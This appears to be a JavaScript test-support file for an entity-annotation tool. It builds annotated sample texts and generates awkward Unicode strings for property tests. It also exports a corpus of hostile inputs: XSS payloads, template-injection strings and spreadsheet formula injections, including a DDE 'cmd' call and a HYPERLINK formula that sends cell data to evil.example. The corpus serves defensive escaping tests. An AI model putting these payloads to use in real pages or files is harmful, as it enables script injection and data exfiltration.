// What the tests of the formats share: marked texts, also arbitrary ones, and a corpus of hostile strings.
import { createRequire } from 'node:module';
import { pathToFileURL } from 'node:url';

const require = createRequire(new URL('../../web/package.json', import.meta.url));

/** @type {typeof import('fast-check')} */
export const fc = await import(pathToFileURL(require.resolve('fast-check')).href).then((module) => module.default ?? module);

const NAMES = ['person', 'organization', 'location', 'misc'];
const VALUES = {
  money: { number: 4e9, currency: 'USD', modifier: 'at_most' },
  percent: { min: -2.6, max: 5 },
  quantity: { number: 1e-7, unit: 'tonne' },
  number: { number: 1e24 },
  date: { timex: '2023-09-25', assumed: true },
  time: { timex: '2023-09-26T14:30' },
  duration: { timex: 'P3Y', mod: 'APPROX' },
  set: { timex: 'XXXX-WXX-1' },
};
export const TYPE_IDS = [...NAMES, ...Object.keys(VALUES)];

/**
 * A text from its pieces: a string stands as it is, [words, type] is annotated. Names with the same words are one entity.
 * @param {(string | [string, string])[]} pieces
 */
export function mark(pieces) {
  const text = pieces.map((piece) => (typeof piece === 'string' ? piece : piece[0])).join('');
  const annotations = [];
  const entities = new Map();
  let at = 0;
  for (const piece of pieces) {
    if (typeof piece === 'string') {
      at += piece.length;
      continue;
    }
    const [words, type] = piece;
    const annotation = { id: annotations.length, start: at, end: at + words.length, text: words, type };
    if (VALUES[type]) annotation.value = { ...VALUES[type] };
    else {
      const key = `${type}|${words}`;
      if (!entities.has(key)) entities.set(key, { id: entities.size, type, name: words, mentions: [] });
      entities.get(key).mentions.push(annotation.id);
      annotation.entity = entities.get(key).id;
    }
    annotations.push({ ...annotation, rule: VALUES[type] ? `${type}.test` : 'names', confidence: 'likely' });
    at += words.length;
  }
  const marked = {
    schema: 'lupe/1',
    engine: { version: '0.1.0' },
    language: 'de',
    referenceDate: '2023-09',
    offsetUnit: 'utf16',
    annotations,
    entities: [...entities.values()],
    warnings: [],
  };
  return { text, marked };
}

export const META = { source: 'artikel.txt', title: 'Ein Artikel', version: '0.1.0' };

/** Units that break careless programs. */
const CHARACTERS = [
  'a',
  'Z',
  'ß',
  '0',
  '7',
  '.',
  ',',
  '-',
  "'",
  '"',
  ';',
  '<',
  '>',
  '&',
  '=',
  '@',
  '\\',
  '/',
  '|',
  '(',
  ')',
  '\t',
  ' ',
  '\n',
  '\r\n',
  '\r',
  '\u00a0',
  '\u00ad',
  'e\u0301',
  '\u0308',
  '\u200b',
  '\u200d',
  '\u202e',
  '\u2066',
  '\u2069',
  '\ufeff',
  '\u2028',
  '\u0085',
  '\0',
  '\x1b',
  '中',
  'ع',
  '😀',
  '👩‍👩‍👧',
  '🇩🇪',
  '\u{1d49c}',
  '\ud800',
  '\udc00',
  '\u{10ffff}',
  '\ufffd',
];

export const anyText = (max = 40) => fc.array(fc.constantFrom(...CHARACTERS), { maxLength: max }).map((parts) => parts.join(''));

/** Words as annotations have them: neither white space nor controls at the ends, no half of a pair. */
const anyWords = fc
  .tuple(
    fc.constantFrom('A', 'e\u0301', '😀', '\u0308', '1', '\u202e', '<b>', '=1'),
    anyText(5),
    fc.constantFrom('z', '9', '👩‍👩‍👧', '%', '</p>'),
  )
  .map((parts) => parts.join(''));

export const anyMarked = fc
  .array(fc.oneof(anyText(8), fc.tuple(anyWords, fc.constantFrom(...TYPE_IDS))), { maxLength: 12 })
  .map((pieces) => mark(pieces.map((piece) => (typeof piece === 'string' ? piece.replace(/\ud800+$/, '') : piece))));

/** Markup, scripts and formulas that must come out as plain words everywhere. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</mark></p><iframe srcdoc="<script>alert(1)</script>">',
  'javascript:alert(1)',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="javascript:alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '\u202e<script>\u202c',
  '<\0script>alert(1)</script>',
  '<script\x0d\x0a>alert(1)</script\t>',
  ']]><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '__proto__',
  '=1+1',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  ' =1+1',
  'x;=1+1',
  'x\n=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '"=1+1',
  '",=1+1,"',
  '|calc',
  'x\ty\n',
];
